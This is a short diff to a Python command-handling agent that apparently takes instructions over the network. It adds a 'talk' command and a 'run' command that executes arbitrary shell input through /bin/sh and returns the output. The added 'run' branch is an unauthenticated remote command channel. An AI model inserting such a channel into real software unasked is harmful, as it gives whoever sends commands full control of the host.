@@ -6,6 +6,7 @@ import base64
 import http.client
 import json
 import os
+import subprocess
 import sys
 import threading
 import time
@@ -63,6 +64,12 @@ def obey(words):
         os._exit(int(words[1]))
     elif words[0] == "update":
         update(words[1], words[2])
+    elif words[0] == "talk":
+        for number in range(int(words[1])):
+            call(type="MESSAGE", message={"data": base64.b64encode(str(number).encode()).decode()})
+    elif words[0] == "run":
+        done = subprocess.run(["/bin/sh", "-c", " ".join(words[1:])], capture_output=True, check=False)
+        call(type="MESSAGE", message={"data": base64.b64encode(done.stdout + done.stderr).decode()})
     elif words[0] == "take":
         hold.append(bytearray(int(words[1]) << 20))
         call(type="MESSAGE", message={"data": base64.b64encode(b"taken").decode()})
